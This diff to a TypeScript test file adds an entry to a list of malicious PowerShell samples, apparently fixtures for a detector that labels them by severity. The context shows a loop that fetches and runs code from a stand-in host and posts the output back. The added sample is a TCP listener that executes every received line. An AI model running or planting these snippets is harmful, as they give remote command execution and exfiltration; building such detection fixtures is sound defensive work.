@@ -190,6 +190,11 @@ const MALICIOUS: readonly (readonly [string, string, string])[] = [
     'while(1){$c=irm https://c.example/t;$o=iex $c|out-string;irm https://c.example/r -Method Post -Body $o}',
     'warn fetch-and-run',
   ],
+  [
+    'a port that takes commands',
+    '$l = [System.Net.Sockets.TcpListener]9001; $l.Start()\n$c = $l.AcceptTcpClient(); $r = New-Object IO.StreamReader($c.GetStream())\nwhile ($null -ne ($line = $r.ReadLine())) { Invoke-Expression $line }',
+    'critical reverse-shell',
+  ],
 ];
 
 /** Name and code of what looks alike and is not. */
